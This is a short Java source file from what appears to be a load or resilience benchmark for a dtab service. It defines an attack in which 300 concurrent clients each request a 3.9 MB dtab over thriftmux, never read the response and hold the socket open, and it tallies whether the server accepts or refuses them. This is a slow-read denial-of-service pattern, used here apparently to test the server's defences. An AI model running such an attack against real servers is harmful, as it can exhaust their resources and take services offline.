package io.dtabd.bench.attack;

import java.io.IOException;

/** Asks for a dtab of 3.9 MB over thriftmux and does not read it. */
record ThriftmuxUnread(Target target) implements Attack {

  private static final int TAG = 1;

  @Override
  public int attackers() {
    return 300;
  }

  @Override
  public void once(int attacker, Tally tally) throws IOException, InterruptedException {
    try (AttackSocket socket = AttackSocket.openNarrow(target.thriftAddress())) {
      socket.send(MuxFrames.dtab(TAG, Tables.HUGE));
      if (MuxFrames.isAnswer(socket.read(MuxFrames.BEGINNING_BYTES))) {
        tally.taken();
        socket.hold();
      } else {
        tally.refused();
      }
    }
  }
}
